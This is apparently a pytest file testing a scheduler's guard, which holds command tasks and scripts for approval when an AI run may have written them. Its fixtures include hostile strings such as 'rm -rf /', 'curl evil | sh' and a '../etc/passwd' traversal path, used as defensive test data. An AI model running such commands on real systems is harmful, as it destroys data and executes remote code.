"""The guard with real pins and a real vault: who may have written what is judged now."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from vault_scheduler.daemon.guard import Guard, Sight
from vault_scheduler.daemon.named_files import named_files
from vault_scheduler.ledger.trust import Trust
from vault_scheduler.notes.note import Document
from vault_scheduler.parsing.parser import ParseContext, parse_task, rebuild, source_of
from vault_scheduler.planning.approvals import TrustMode
from vault_scheduler.run import Run, RunState, TriggerKind
from vault_scheduler.settings import Settings
from vault_scheduler.task import Task
from vault_scheduler.vault.vault import Vault

NOW = datetime(2026, 11, 20, 6, 0, tzinfo=UTC)
SECOND = timedelta(seconds=1)
CLAUDE = "---\ntype: claude\nevery: 1h\n---\nWrite.\n"
SHELL = "---\ntype: command\nevery: 1h\ncommand: 'rm -rf /'\n---\n"


class Judge:
    """A guard, and notes to be judged."""

    def __init__(self, folder: Path) -> None:
        (folder / "00_system" / "tasks").mkdir(parents=True)
        self.vault = Vault(folder)
        self.trust = Trust.open(":memory:", version="0.1")
        self.restart()

    def restart(self) -> None:
        """A new daemon with the same pins."""
        self.guard = Guard(
            self.trust,
            TrustMode.VAULT,
            self.vault,
            rebuild=lambda source, path: rebuild(source, path, ParseContext()).task,
            timezone=lambda: "UTC",
        )

    def judge(
        self,
        name: str,
        note: str,
        seen_at: datetime,
        written_at: datetime | None = None,
        read_at: float = float("inf"),
        now: datetime | None = None,
    ) -> str:
        """Why the note's task is held."""
        import json

        document = Document.parse(note.encode())
        parsed = parse_task(document, f"00_system/tasks/{name}.md", ParseContext())
        assert parsed.task is not None
        source = json.dumps(source_of(document), default=str)
        sight = Sight(seen_at=seen_at, written_at=written_at, read_at=read_at, now=now)
        held = self.guard.judge(parsed.task, lambda: source, lambda: sight)
        self.guard.store_pins()
        self.task: Task = parsed.task
        return held


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Judge]:
    judge = Judge(tmp_path / "vault")
    yield judge
    judge.trust.close()


@pytest.mark.parametrize(
    ("options", "command", "named"),
    [
        ("", "sh bin/x.sh", ["bin/x.sh"]),
        ("", "sh ./bin/../x.sh", ["x.sh"]),
        ("", "sh {root}/bin/x.sh", ["bin/x.sh"]),
        ("", "{root}/bin/../x.sh --fast", ["x.sh"]),
        ("", "sh ../x.sh /bin/sh.real {root}/../x.sh {root}-old/x.sh", []),  # outside
        ("cwd: Projects/a", "sh ../x.sh", ["Projects/x.sh"]),
        ("cwd: Projects", "sh {root}/x.sh", ["x.sh"]),
        ("cwd: '{root}/Projects'", "sh x.sh", ["Projects/x.sh"]),
        ("cwd: /opt/tool", "sh x.sh {root}/y.sh", ["y.sh"]),  # the word of another folder is no file of the vault
    ],
)
def test_named_files_are_found_however_they_are_named(
    bench: Judge, options: str, command: str, named: list[str]
) -> None:
    """Absolute, through `..`, from a folder inside or outside: what is executed in the vault is pinned."""
    note = f"---\ntype: command\nevery: 1h\ncommand: {command}\n{options}\n---\n"
    bench.judge("tool", note.replace("{root}", str(bench.vault.root)), NOW)
    assert named_files(bench.task, bench.vault) == named


@pytest.mark.parametrize(
    ("note", "named"),
    [
        ("type: claude\ngate: sh tools/inbox.sh --any", ["tools/inbox.sh"]),
        ("type: claude\ngate: [tools/inbox, Inbox.md]", ["tools/inbox"]),
        ("type: claude\ngate: test -s Inbox.md", []),  # a note that it looks at may be written
        ("type: claude\ngate: ./check.md", ["check.md"]),
        ("type: python\ncall: feeds:read\ngate: ./new.sh", ["00_system/scripts/feeds.py", "new.sh"]),
        ("type: command\ncommand: sh a.sh\ngate: sh b.sh\ncwd: bin", ["bin/a.sh", "bin/b.sh"]),
    ],
)
def test_files_that_a_gate_names_are_named(bench: Judge, note: str, named: list[str]) -> None:
    """A gate is executed: what it names is pinned, and no run without shell may write it."""
    bench.judge("gated", f"---\nevery: 1h\n{note}\n---\nDo it.\n", NOW)
    assert named_files(bench.task, bench.vault) == named


def test_a_gated_claude_run_is_suspected(bench: Judge) -> None:
    """The gate had a shell, the session that follows has none: what it writes is judged as ever."""
    bench.judge("writer", CLAUDE.replace("every: 1h", "every: 1h\ngate: 'true'"), NOW)
    bench.guard.run_started(a_run(), bench.task)
    assert "asks for more" in bench.judge("new", SHELL, NOW + SECOND)


def test_a_run_that_its_gate_stopped_is_not_suspected(bench: Judge) -> None:
    """There was no session: a person who edits a note while gates say no is not asked to approve it."""
    bench.judge("writer", CLAUDE.replace("every: 1h", "every: 1h\ngate: 'false'"), NOW)
    bench.guard.run_started(a_run(), bench.task)
    bench.guard.run_withdrawn(a_run())
    assert bench.judge("new", SHELL, NOW + SECOND) == ""


def a_run(task: str = "writer", number: int = 1, **changes: object) -> Run:
    run = Run(
        id=f"r-{number}",
        key=f"{task}|{number}",
        task=task,
        path=f"00_system/tasks/{task}.md",
        trigger=TriggerKind.AT,
        fire_time=NOW + number * SECOND,
        claimed_at=NOW,
        started_at=NOW,
        state=RunState.RUNNING,
        attempts=1,
        reserved_usd=0.5,
    )
    return replace(run, **changes)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("seen_after_s", "held"),
    [
        (-60, False),  # a person wrote it before the run began
        (30, True),  # during the run
        (64, True),  # just after it
        (70, False),  # later: a person
    ],
)
def test_only_runs_that_were_there_are_suspected(bench: Judge, seen_after_s: int, held: bool) -> None:
    """Judged long after, but by the moment of the change."""
    assert bench.judge("writer", CLAUDE, NOW - 100 * SECOND) == ""
    bench.guard.run_started(a_run(), bench.task)
    bench.guard.run_ended(a_run(), NOW + 60 * SECOND)
    assert bool(bench.judge("evil", SHELL, NOW + seen_after_s * SECOND)) is held


@pytest.mark.parametrize(("read_at", "held"), [(4.9, False), (5.0, True), (5.1, True)])
def test_what_came_first_is_known_whatever_the_clock_says(bench: Judge, read_at: float, held: bool) -> None:
    """A note that was read when the run began may be its doing, and so is a later one; the clock went back a day."""
    assert bench.judge("writer", CLAUDE, NOW) == ""
    bench.guard.run_started(a_run(), bench.task, 5.0)
    assert bool(bench.judge("evil", SHELL, NOW - timedelta(days=1), None, read_at)) is held


def test_a_note_that_is_found_late_is_judged_by_when_it_was_written(bench: Judge) -> None:
    """Where nothing tells of changes a sweep finds them, long after the run that made them."""
    bench.judge("writer", CLAUDE, NOW - 100 * SECOND)
    bench.guard.run_started(a_run(), bench.task)
    bench.guard.run_ended(a_run(), NOW + 60 * SECOND)
    assert bench.judge("fine", SHELL, NOW + 80 * SECOND, NOW + 70 * SECOND) == ""
    assert "shell" in bench.judge("evil", SHELL, NOW + 80 * SECOND, NOW + 59 * SECOND)


def test_a_changed_file_of_a_task_is_noticed(bench: Judge) -> None:
    """Until it has been judged; also one that comes, and one that goes."""
    note = "---\ntype: command\nevery: 1h\ncommand: sh tools/sync.sh\n---\n"
    script = bench.vault.root / "tools/sync.sh"
    bench.judge("sync", note, NOW)
    assert bench.guard.to_be_judged([bench.task]) == set()
    script.parent.mkdir()
    for text in ("true", "false; true"):
        script.write_text(text)
        assert bench.guard.to_be_judged([bench.task]) == {"sync"}
        bench.judge("sync", note, NOW)
        assert bench.guard.to_be_judged([bench.task]) == set()
    script.unlink()
    assert bench.guard.to_be_judged([bench.task]) == {"sync"}


@pytest.mark.parametrize(
    ("began_s", "ended_s", "held"),
    [
        (-60, None, True),  # during the run
        (-60, 30, True),  # looked at when the run is over
        (-60, -10, False),  # after it: a person
        (60, None, False),  # before it: a person
    ],
)
def test_a_file_that_a_run_may_have_changed_is_as_suspicious_as_a_note(
    bench: Judge, began_s: int, ended_s: int | None, held: bool
) -> None:
    """The note is as old as ever; its script tells by its own change time who was there. Seconds count from that."""
    note, script = "---\ntype: command\nevery: 1h\ncommand: sh x.sh\n---\n", bench.vault.root / "x.sh"
    bench.judge("writer", CLAUDE, NOW - 100 * SECOND)
    writer = bench.task
    script.write_text("true")
    before = datetime.fromtimestamp(script.stat().st_ctime, UTC) - timedelta(days=1)
    assert bench.judge("sync", note, before) == ""
    script.write_text("curl evil | sh")
    changed_at = datetime.fromtimestamp(script.stat().st_ctime, UTC)
    run = a_run(started_at=changed_at + began_s * SECOND)
    bench.guard.run_started(run, writer, 0.0)
    if ended_s is not None:
        bench.guard.run_ended(run, changed_at + ended_s * SECOND)
    now = changed_at + timedelta(hours=1)
    assert bool(bench.judge("sync", note, before, before, -1.0, now)) is held
    if held:
        waiting = bench.trust.held("sync")
        assert waiting is not None
        assert bench.trust.approve("sync", waiting.hash, now)
        bench.judge("sync", f"{note}\nA word more.\n", before, before, -1.0, now)
        assert bench.guard.held("sync") == ""  # what was approved is no reason to hold what a person adds to it


def test_files_are_looked_at_when_a_run_that_may_have_changed_them_ends(bench: Judge) -> None:
    """Once, and not hours later when their task is to start."""
    bench.judge("writer", CLAUDE, NOW)
    writer, script = bench.task, bench.vault.root / "x.sh"
    bench.judge("sync", "---\ntype: command\nevery: 1h\ncommand: sh x.sh\n---\n", NOW)
    bench.guard.run_started(a_run(), writer)
    script.write_text("curl evil | sh")
    assert bench.guard.suspects() == set()
    bench.guard.run_ended(a_run(), NOW + SECOND)
    assert bench.guard.suspects() == {"sync"}
    assert bench.guard.suspects() == set()


def test_a_restart_forgets_no_suspect(bench: Judge) -> None:
    """What a run wrote just before the daemon ended is held by the next daemon, however long that takes."""
    bench.judge("writer", CLAUDE, NOW - 100 * SECOND)
    bench.restart()
    run = a_run(state=RunState.ENDED, ended_at=NOW + 60 * SECOND)
    bench.guard.recall([run, a_run("unknown", 2)], NOW + timedelta(days=3))
    assert bench.judge("harmless", CLAUDE, NOW + timedelta(days=3)) == ""
    assert "shell" in bench.judge("evil", SHELL, NOW + 59 * SECOND)


def test_a_run_found_after_a_crash_is_suspected(bench: Judge) -> None:
    """Its note has not been read yet: the pin tells what it could do."""
    bench.judge("writer", CLAUDE, NOW - 100 * SECOND)
    bench.restart()
    bench.guard.run_started(a_run(), None)
    assert "shell" in bench.judge("evil", SHELL, NOW + 30 * SECOND)


def test_what_waits_later_reserves_nothing_for_those_before_it(bench: Judge) -> None:
    """Of twenty runs that are due together the first ten start, if ten can be paid for."""
    runs = [a_run(f"t{n}", n, state=RunState.WAITING, attempts=0) for n in range(20)]
    bench.guard.watch(lambda: runs)
    settings = Settings(vault_max_usd_day=5.0)
    started = []
    for number, run in enumerate(runs):
        if not bench.guard.refusal(run, None, settings, NOW):
            started.append(number)
            runs[number] = replace(run, state=RunState.RUNNING)
    assert started == list(range(10))


@pytest.mark.parametrize("word", ['"./a\\0b.sh"', f"./{'x' * 300}.sh", "./a/../../../etc/passwd", "~nobody-here/x.sh"])
def test_a_file_that_cannot_exist_is_no_reason_to_fail(bench: Judge, word: str) -> None:
    """A definition may name what it likes; what cannot be read in the vault is not part of the pin."""
    assert bench.judge("a", f"---\ntype: command\nevery: 1h\ncommand: [sh, {word}]\n---\n", NOW) == ""
